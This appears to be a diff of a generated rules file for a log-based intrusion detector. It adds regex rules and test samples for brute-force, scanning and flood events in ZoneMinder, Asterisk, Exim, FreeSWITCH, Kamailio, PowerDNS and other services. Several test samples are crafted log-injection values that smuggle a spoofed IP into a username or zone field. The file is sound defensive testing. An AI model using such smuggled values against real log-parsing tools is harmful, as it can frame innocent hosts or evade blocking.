+            "line": "01/15/24 12:00:00.123456 web_php[1234].WAR [192.0.2.81] [Login denied for user \"admin\"]",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.81"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "zoneminder"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-15 12:00:00.123456 web_php[1234].ERR [2001:db8::82] [Could not retrieve user bob details] at /usr/share/zoneminder/www/includes/auth.php line 90",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::82"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 15 12:00:00 nvr web_php[1234]: 01/15/24 12:00:00.123456 web_php[1234].WAR [192.0.2.83] [Login denied for user \"x] [10.1.1.1\"]",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.83"
+                }
+              ]
+            }
+          },
+          {
+            "line": "01/15/24 12:00:00.123456 web_php[1234].INF [192.0.2.84] [Login successful for user \"admin\"]",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "zoneminder",
+      "aliases": [
+        "zm",
+        "web_php"
+      ],
+      "description": "ZoneMinder log file (web_php.log and the other component logs)",
+      "syslogTags": [
+        "web_php",
+        "zoneminder"
+      ],
+      "syslogPrefix": "^(?:\\d\\d/\\d\\d/\\d\\d|\\d{4}-\\d\\d-\\d\\d) \\d\\d:\\d\\d:\\d\\d\\.\\d{6} [A-Za-z0-9_]{1,40}\\[\\d{1,10}\\]\\.(?=[A-Z]{2}[A-Z0-9] \\[)",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d\\d/\\d\\d/\\d\\d \\d\\d:\\d\\d:\\d\\d)\\.\\d{6} [A-Za-z0-9_]{1,40}\\[(?<pid>\\d{1,10})\\]\\.(?=[A-Z]{2}[A-Z0-9] \\[)",
+          "time": "MM/DD/YY hh:mm:ss"
+        },
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d)\\.\\d{6} [A-Za-z0-9_]{1,40}\\[(?<pid>\\d{1,10})\\]\\.(?=[A-Z]{2}[A-Z0-9] \\[)",
+          "time": "YYYY-MM-DD hh:mm:ss"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/asterisk.yaml",
     "rules": [
       {
@@ -7937,7 +9006,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "asterisk"
         ],
         "requires": "SecurityEvent=\"",
-        "pattern": "^(?:\\[[^\\]]{1,40}\\] )?(?:(?:NOTICE|WARNING|ERROR|SECURITY|VERBOSE|DEBUG)\\[\\d{1,10}\\](?:\\[C-[0-9A-Fa-f]{1,16}\\])?:? )?(?:[A-Za-z0-9_./-]{1,64}:(?:\\d{1,6} (?:in )?[A-Za-z0-9_]{1,64}:)? )?SecurityEvent=\"(?<event>InvalidAccountID|ChallengeResponseFailed|InvalidPassword|FailedACL|RequestNotAllowed|AuthMethodNotAllowed|UnexpectedAddress|RequestBadFormat|InvalidTransport|RequestNotSupported|SessionLimit|MemoryLimit|LoadAverageLimit)\",EventTV=\"[^\"]{0,64}\",Severity=\"[A-Za-z]{1,16}\",Service=\"(?<service>[^\"]{0,32})\",EventVersion=\"\\d{1,3}\",(?:Module=\"[^\"]{0,64}\",)?AccountID=\"(?<user>[^\"]{0,256})\",SessionID=\"[^\",]{0,256}\",LocalAddress=\"IPV[46]/[A-Z]{2,5}/[0-9A-Fa-f:.]{2,45}/\\d{1,5}\",RemoteAddress=\"IPV[46]/[A-Z]{2,5}/(?<ip>[0-9A-Fa-f:.]{2,45})/(?<port>\\d{1,5})\"",
+        "pattern": "^(?:\\[[^\\]]{1,40}\\] )?(?:(?:NOTICE|WARNING|ERROR|SECURITY|VERBOSE|DEBUG)\\[\\d{1,10}\\](?:\\[C-[0-9A-Fa-f]{1,16}\\])?:? )?(?:[A-Za-z0-9_./-]{1,64}:(?:\\d{1,6} (?:in )?[A-Za-z0-9_]{1,64}:)? )?SecurityEvent=\"(?<event>InvalidAccountID|ChallengeResponseFailed|InvalidPassword|FailedACL|RequestNotAllowed|AuthMethodNotAllowed|UnexpectedAddress|RequestBadFormat|InvalidTransport|RequestNotSupported|SessionLimit|MemoryLimit|LoadAverageLimit)\",EventTV=\"[^\"]{0,64}\",Severity=\"[A-Za-z]{1,16}\",Service=\"(?<service>[^\"]{0,32})\",EventVersion=\"\\d{1,3}\",(?:Module=\"[^\"]{0,64}\",)?AccountID=\"(?<user>[^\"]{0,256})\",SessionID=\"[^\"]{0,256}\",LocalAddress=\"IPV[46]/[A-Z]{2,5}/[0-9A-Fa-f:.]{2,45}/\\d{1,5}\",RemoteAddress=\"IPV[46]/[A-Z]{2,5}/(?<ip>[0-9A-Fa-f:.]{2,45})/(?<port>\\d{1,5})\"",
         "category": [
           "Access.Forced"
         ],
@@ -7967,6 +9036,19 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 {
                   "User": "200",
                   "Service": "PJSIP"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2018-06-01 10:00:00] SECURITY[3001] res_security_log.c: SecurityEvent=\"InvalidAccountID\",EventTV=\"2018-06-01T10:00:00.123+0000\",Severity=\"Error\",Service=\"PJSIP\",EventVersion=\"1\",AccountID=\"200\",SessionID=\"a84c,3b2f@198.51.100.9\",LocalAddress=\"IPV4/UDP/192.0.2.1/5060\",RemoteAddress=\"IPV4/UDP/198.51.100.10/5060\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.10",
+                  "Port": [
+                    5060
+                  ]
                 }
               ]
             }
@@ -8248,6 +9330,77 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "line": "Jan 10 12:00:00 pbx asterisk[123]: NOTICE[456]: chan_sip.c:25000 in handle_request_invite: Failed to authenticate device <sip:100@192.0.2.10>;tag=abc for INVITE, code = 401",
             "expect": {
               "Priority": "Low"
+            }
+          }
+        ]
+      },
+      {
+        "id": "asterisk.freepbx-unknown-sip-connection",
+        "programs": [
+          "asterisk"
+        ],
+        "requires": "Rejecting unknown SIP connection from ",
+        "pattern": "^(?:\\[[^\\]]{1,40}\\] )?(?:(?:NOTICE|WARNING|ERROR|SECURITY|VERBOSE|DEBUG)\\[\\d{1,10}\\](?:\\[C-[0-9A-Fa-f]{1,16}\\])?:? )?Ext\\. (?<exten>[^ :]{0,80})(?::\\d{1,6})?(?: (?:in )?(?:@ ?)?[^ :]{1,80})?: \"?Rejecting unknown SIP connection from (?<ip>[0-9A-Fa-f:.]{2,45})\"?$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Medium",
+        "description": "Asterisk (FreePBX) rejected an unauthenticated SIP call from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "sip"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 pbx asterisk[123]: WARNING[456][C-00000001]: Ext. s:1 in @ from-sip-external: \"Rejecting unknown SIP connection from 198.51.100.12\"",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Medium",
+              "Description": "Asterisk (FreePBX) rejected an unauthenticated SIP call from 198.51.100.12",
+              "Source": [
+                {
+                  "IP": "198.51.100.12"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "sip"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2015-04-01 10:00:00] WARNING[2134][C-0000002a] Ext. s:2 @ from-sip-external: \"Rejecting unknown SIP connection from 198.51.100.13\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.13"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2012-02-13 17:44:26] WARNING[1638] Ext. s: \"Rejecting unknown SIP connection from 2001:db8::13\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::13"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 pbx asterisk[123]: WARNING[456]: Ext. 1.2.3.4: \"Rejecting unknown SIP connection from 198.51.100.14\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.14"
+                }
+              ]
             }
           }
         ]
@@ -10000,6 +11153,67 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "Aug 28 23:15:50 proxy danted[811]: info: pass(1): tcp/accept ]: 198.51.100.98.40002 192.0.2.1.1080: accepted",
+            "expect": null
+          }
+        ]
+      }
+    ]
+  },
+  {
+    "file": "src/converters/syslog/rules/dnsmasq.yaml",
+    "rules": [
+      {
+        "id": "dnsmasq.non-local-query",
+        "programs": [
+          "dnsmasq",
+          "pihole-FTL"
+        ],
+        "requires": "gnoring query from non-local network",
+        "pattern": "^[Ii]gnoring query from non-local network(?: (?<ip>[0-9A-Fa-f:.]{2,45})(?: \\(logged only once\\))?)?$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "dnsmasq ignored a DNS query from outside its local networks",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 gw dnsmasq[612]: ignoring query from non-local network 198.51.100.110 (logged only once)",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "198.51.100.110"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "domain"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 gw dnsmasq[612]: Ignoring query from non-local network",
+            "expect": {
+              "Priority": "Low",
+              "Target": [
+                {
+                  "Service": "domain"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 gw dnsmasq[612]: query[A] example.com from 192.0.2.5",
             "expect": null
           }
         ]
@@ -12152,6 +13366,61 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "expect": null
           }
         ]
+      },
+      {
+        "id": "exim.rejected-vrfy-expn",
+        "programs": [
+          "exim",
+          "exim4"
+        ],
+        "pattern": "^(?:\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{3,6})?(?: [-+]\\d{4})? )?(?:\\[\\d{1,10}\\] )?H=(?:(?<host>[^\\s()\\[\\]]{1,255}) )?(?:\\((?<helo>[^()\\s]{0,255})\\) )?\\[(?<ip>[0-9A-Fa-f:.]{2,45})\\](?::(?<port>\\d{1,5}))?(?: I=\\[[0-9A-Fa-f:.]{2,45}\\](?::\\d{1,5})?)?(?: Ci=\\d{1,12})?(?: U=[^\\s]{1,64})?(?: [A-Za-z]{1,3}=(?:<[^>]{0,512}>|[^<\\s]\\S{0,300}|)){0,12} rejected (?<cmd>VRFY|EXPN|ETRN)(?: (?<arg>[^\\n]{0,256}?))?(?:: (?<reason>[^\\n]{0,512}))?$",
+        "requires": " rejected ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "SMTP {cmd} from {ip} refused ({arg})",
+        "source": {
+          "address": "{ip}",
+          "hostname": "{host}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "smtp"
+        },
+        "samples": [
+          {
+            "line": "2024-01-01 12:00:30 H=(x) [192.0.2.72]:1234 I=[10.0.0.1]:25 rejected VRFY root: VRFY not permitted",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.72",
+                  "Port": [
+                    1234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Feb  1 10:00:00 mx exim[9]: H=scan.example.net [192.0.2.73] rejected EXPN postmaster",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.73"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:31 H=(x) [192.0.2.74]:1234 temporarily rejected VRFY root",
+            "expect": null
+          }
+        ]
       }
     ]
   },
@@ -12960,6 +14229,77 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         ]
       },
       {
+        "id": "freeswitch.sip-auth-challenge",
+        "programs": [
+          "freeswitch"
+        ],
+        "requires": "SIP auth challenge (",
+        "pattern": "^(?:[0-9A-Fa-f-]{36} )?(?:\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d\\.\\d{1,6} )?(?:\\d{1,3}\\.\\d{1,2}% )?(?:\\[WARNING\\] )?(?:sofia_reg\\.c:\\d{1,6} )?SIP auth challenge \\((?<method>[A-Z]{3,12})\\) on sofia profile '(?<profile>[^']{0,64})' for \\[(?<user>.{0,512})\\] from ip (?<ip>[0-9A-Fa-f:.]{2,45})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "FreeSWITCH challenged a SIP {method} for [{user}] from {ip} (profile {profile})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "sip"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 pbx freeswitch[1200]: [WARNING] sofia_reg.c:1642 SIP auth challenge (REGISTER) on sofia profile 'internal' for [1000@192.0.2.10] from ip 198.51.100.75",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Low",
+              "Description": "FreeSWITCH challenged a SIP REGISTER for [1000@192.0.2.10] from 198.51.100.75 (profile internal)",
+              "Source": [
+                {
+                  "IP": "198.51.100.75"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "1000@192.0.2.10",
+                  "Service": "sip"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 pbx freeswitch: 2014-01-10 12:00:00.123456 [WARNING] sofia_reg.c:1755 SIP auth challenge (INVITE) on sofia profile 'external' for [0046812345678@192.0.2.10] from ip 198.51.100.76",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.76"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 pbx freeswitch[1200]: [WARNING] sofia_reg.c:1642 SIP auth challenge (REGISTER) on sofia profile 'internal' for [x] from ip 10.1.1.1@pbx] from ip 198.51.100.77",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.77"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 pbx freeswitch[1200]: [WARNING] sofia_reg.c:1720 SIP auth failure (REGISTER) on sofia profile 'internal' for [1000@192.0.2.10] from ip 198.51.100.70",
+            "expect": null
+          },
+          {
+            "line": "Jan 10 12:00:00 pbx freeswitch[1200]: [DEBUG] sofia_reg.c:1642 SIP auth challenge (REGISTER) on sofia profile 'internal' for [1000@192.0.2.10] from ip 198.51.100.70",
+            "expect": null
+          }
+        ]
+      },
+      {
         "id": "freeswitch.unknown-user",
         "programs": [
           "freeswitch"
@@ -13112,6 +14452,64 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "Oct 24 11:32:53 ftp1 vsftpd[1]: [pid 1] [bob] OK LOGIN: Client \"192.0.2.46\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "vsftpd.tcp-wrappers-denial",
+        "programs": [
+          "vsftpd"
+        ],
+        "requires": "tcp_wrappers denial",
+        "pattern": "^(?:\\[pid \\d{1,10}\\] )?CONNECT: Client \"(?<ip>[0-9A-Fa-f:.]{2,45})\", \"Connection refused: tcp_wrappers denial\\.\"$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "FTP connection from {ip} refused by tcp_wrappers",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "ftp"
+        },
+        "samples": [
+          {
+            "line": "Mon Jan 15 12:00:00 2024 [pid 1234] CONNECT: Client \"192.0.2.49\", \"Connection refused: tcp_wrappers denial.\"",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.49"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "ftp"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Oct 24 11:32:53 ftp1 vsftpd[1]: [pid 3] CONNECT: Client \"::ffff:192.0.2.50\", \"Connection refused: tcp_wrappers denial.\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.50"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Mon Jan 15 12:00:00 2024 [pid 1234] CONNECT: Client \"192.0.2.51\", \"Connection refused: too many sessions for this address.\"",
+            "expect": null
+          },
+          {
+            "line": "Mon Jan 15 12:00:00 2024 [pid 1234] CONNECT: Client \"192.0.2.52\"",
             "expect": null
           }
         ]
@@ -14680,6 +16078,196 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     ]
   },
   {
+    "file": "src/converters/syslog/rules/kamailio.yaml",
+    "rules": [
+      {
+        "id": "kamailio.pike-blocking-ip",
+        "programs": [
+          "kamailio",
+          "/usr/sbin/kamailio",
+          "/usr/local/sbin/kamailio",
+          "opensips",
+          "/usr/sbin/opensips",
+          "openser",
+          "ser"
+        ],
+        "requires": "PIKE - BLOCKing ip ",
+        "pattern": "^(?:[^:]{0,160}:){0,6} ?PIKE - BLOCKing ip (?<ip>[0-9A-Fa-f:.]{2,45}), node=(?:0x)?[0-9A-Fa-f]{1,16}$",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Medium",
+        "description": "SIP flood: the pike module blocked {ip} for exceeding its request rate",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "sip"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: WARNING: pike [pike_funcs.c:151]: pike_check_req(): PIKE - BLOCKing ip 198.51.100.80, node=0x7f7e073f7dd0",
+            "expect": {
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Medium",
+              "Description": "SIP flood: the pike module blocked 198.51.100.80 for exceeding its request rate",
+              "Source": [
+                {
+                  "IP": "198.51.100.80"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "sip"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 sip /usr/sbin/kamailio[1234]: WARNING: pike [pike_funcs.c:175]: pike_check_req(): PIKE - BLOCKing ip 2001:db8::80, node=0x7f7e073f7dd0",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::80"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 sip opensips[900]: WARNING:pike:pike_check_req: PIKE - BLOCKing ip 198.51.100.81, node=0x7f12ab34",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.81"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: WARNING: <core> [core/udp_server.c:600]: udp_rcv_loop(): pike_check_req() called",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "kamailio.script-pike-alert",
+        "programs": [
+          "kamailio",
+          "/usr/sbin/kamailio",
+          "/usr/local/sbin/kamailio",
+          "opensips",
+          "/usr/sbin/opensips",
+          "openser",
+          "ser"
+        ],
+        "requires": "pike blocking ",
+        "pattern": "^(?:[^:]{0,160}:){0,6} ?ALERT: pike blocking (?<method>[A-Z]{3,12}) from (?<from>.{0,1024}) \\(IP:(?<ip>[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5})\\)$",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Low",
+        "description": "SIP flood: {method} from {ip} dropped by the pike block",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "sip"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: ALERT: <script>: ALERT: pike blocking REGISTER from sip:100@192.0.2.10 (IP:198.51.100.82:5060)",
+            "expect": {
+              "Priority": "Low",
+              "Description": "SIP flood: REGISTER from 198.51.100.82 dropped by the pike block",
+              "Source": [
+                {
+                  "IP": "198.51.100.82",
+                  "Port": [
+                    5060
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: ERROR: <core> [core/kemi.c:104]: sr_kemi_core_err(): ALERT: pike blocking INVITE from sip:x@pbx (IP:2001:db8::82:5062)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::82",
+                  "Port": [
+                    5062
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: ALERT: <script>: ALERT: pike blocking OPTIONS from sip:a@b (IP:10.1.1.1:5060) (IP:198.51.100.83:5070)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.83",
+                  "Port": [
+                    5070
+                  ]
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "kamailio.malformed-sip",
+        "programs": [
+          "kamailio",
+          "/usr/sbin/kamailio",
+          "/usr/local/sbin/kamailio",
+          "opensips",
+          "/usr/sbin/opensips",
+          "openser",
+          "ser"
+        ],
+        "requires": "Malformed SIP message from ",
+        "pattern": "^(?:[^:]{0,160}:){0,6} ?Malformed SIP message from (?<ip>[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5})$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "Malformed SIP message from {ip} (scanner or fuzzer)",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "sip"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 sip kamailio[1234]: ERROR: <script>: Malformed SIP message from 198.51.100.84:5060",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "198.51.100.84",
+                  "Port": [
+                    5060
+                  ]
+                }
+              ]
+            }
+          }
+        ]
+      }
+    ]
+  },
+  {
     "file": "src/converters/syslog/rules/kernel-tcp.yaml",
     "rules": [
       {
@@ -15277,21 +16865,37 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "mongos"
         ],
         "requires": " authentication failed for ",
-        "pattern": "^(?:\\d{4}-\\d\\d-\\d\\dT[0-9:.]{8,15}(?:Z|[+-]\\d\\d:?\\d\\d)? |[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{3})? )?(?:[FEWID]\\d? {1,2}[A-Z]{1,12} {1,8})?\\[conn\\d{1,12}\\] (?:SASL )?(?<mech>[A-Z0-9-]{2,30}) authentication failed for (?<user>[^ ]{0,256}) on (?<db>[^ ]{1,128}) from client (?<ip>\\[[0-9A-Fa-f:.]{2,45}\\]|[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5}) ;",
+        "pattern": "^(?:\\d{4}-\\d\\d-\\d\\dT[0-9:.]{8,15}(?:Z|[+-]\\d\\d:?\\d\\d)? |[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{3})? )?(?:[FEWID]\\d? {1,2}[A-Z]{1,12} {1,8})?\\[conn\\d{1,12}\\] (?:SASL )?(?<mech>[A-Z0-9-]{2,30}) authentication failed for (?<user>[^ ]{0,256}) on (?<db>[^ ]{1,128}) from client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port4>\\d{1,5}))?|(?<ip>\\[[0-9A-Fa-f:.]{2,45}\\]|[0-9A-Fa-f:.]{2,45}):(?<port>\\d{1,5})) ;",
         "category": [
           "Access.Forced"
         ],
         "priority": "Medium",
-        "description": "MongoDB {mech} authentication failed for {user} on {db} from {ip}",
+        "description": "MongoDB {mech} authentication failed for {user} on {db} from {ip4}{ip}",
         "source": {
-          "address": "{ip}",
-          "port": "{port}"
+          "address": "{ip4}{ip}",
+          "port": "{port4}{port}"
         },
         "target": {
           "user": "{user}",
           "service": "mongodb"
         },
         "samples": [
+          {
+            "line": "2015-06-10T10:44:23.346+0200 I ACCESS   [conn3] SCRAM-SHA-1 authentication failed for admin on admin from client 198.51.100.44 ; UserNotFound Could not find user admin@admin",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.44"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "mongodb"
+                }
+              ]
+            }
+          },
           {
             "line": "Oct 14 19:37:58 db2 mongod[977]: 2019-10-14T19:37:58.123+0000 I ACCESS   [conn3] SCRAM-SHA-1 authentication failed for admin on admin from client 198.51.100.41:50412 ; UserNotFound: Could not find user admin@admin",
             "expect": {
@@ -15556,6 +17160,71 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          }
+        ]
+      },
+      {
+        "id": "monit.http-access-denied",
+        "programs": [
+          "monit"
+        ],
+        "requires": "HttpRequest: access denied -- client [",
+        "pattern": "^(?:\\[[^\\]]{1,40}\\] [a-z]{1,10} {0,8}: )?HttpRequest: access denied -- client \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\]: (?<what>unknown user|wrong password for user) '(?<user>.{0,256})'$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Monit web login from {ip} failed: {what} \"{user}\"",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "monit"
+        },
+        "samples": [
+          {
+            "line": "[2024-01-20T12:00:00+0100] error    : HttpRequest: access denied -- client [198.51.100.95]: wrong password for user 'admin'",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "198.51.100.95"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "monit"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 20 12:00:00 srv monit[771]: HttpRequest: access denied -- client [2001:db8::96]: unknown user 'root'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::96"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "root"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[CET Jan 20 12:00:00] error    : HttpRequest: access denied -- client [198.51.100.97]: missing or invalid Authorization header",
+            "expect": null
+          },
+          {
+            "line": "[CET Jan 20 12:00:00] error    : HttpRequest: access denied -- client [198.51.100.98]: CSRF token mismatch",
+            "expect": null
           }
         ]
       },
@@ -16442,6 +18111,47 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           {
             "line": "Feb  3 11:22:44 mon1 nrpe[63284]: Host address is in allowed_hosts",
             "expect": null
+          }
+        ]
+      },
+      {
+        "id": "nsca.host-not-allowed",
+        "programs": [
+          "nsca"
+        ],
+        "requires": " is not allowed to talk to us!",
+        "pattern": "^(?:Error: )?Host (?<ip>[0-9A-Fa-f:.]{2,45}) is not allowed to talk to us!$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Medium",
+        "description": "NSCA refused a connection from {ip} (not in allowed_hosts)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "nsca"
+        },
+        "samples": [
+          {
+            "line": "Feb  3 11:22:44 mon1 nsca[2020]: Host 203.0.113.61 is not allowed to talk to us!",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Medium",
+              "Description": "NSCA refused a connection from 203.0.113.61 (not in allowed_hosts)",
+              "Source": [
+                {
+                  "IP": "203.0.113.61"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "nsca"
+                }
+              ]
+            }
           }
         ]
       },
@@ -18646,6 +20356,383 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     ]
   },
   {
+    "file": "src/converters/syslog/rules/pdns.yaml",
+    "rules": [
+      {
+        "id": "pdns.xfr-denied",
+        "programs": [
+          "pdns",
+          "pdns_server"
+        ],
+        "requires": ", denied: ",
+        "pattern": "^(?<kind>AXFR|IXFR)-out zone '(?<zone>.{1,1100})', client '(?<host>\\[(?<ip6>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3}):(?<port4>\\d{1,5}))', denied: (?<why>client IP has no permission|key with name '[^']{0,255}' and algorithm '[^']{0,64}' does not grant access)$",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Medium",
+        "description": "DNS zone transfer ({kind}) of {zone} from {host} refused: {why}",
+        "source": {
+          "address": "{ip6}{ip4}",
+          "port": "{port6}{port4}"
+        },
+        "target": {
+          "service": "domain"
+        },
+        "samples": [
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns_server[4661]: AXFR-out zone 'example.com', client '198.51.100.100:41234', denied: client IP has no permission",
+            "expect": {
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Medium",
+              "Description": "DNS zone transfer (AXFR) of example.com from 198.51.100.100:41234 refused: client IP has no permission",
+              "Source": [
+                {
+                  "IP": "198.51.100.100",
+                  "Port": [
+                    41234
+                  ]
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "domain"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns[4661]: IXFR-out zone 'example.net', client '[2001:db8::100]:5300', denied: key with name 'xfr-key' and algorithm 'hmac-sha256' does not grant access",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::100",
+                  "Port": [
+                    5300
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 10 12:00:00 ns1 pdns[4661]: AXFR-out zone 'x', client '10.1.1.1:53', denied: client IP has no permission', client '198.51.100.101:40000', denied: client IP has no permission",
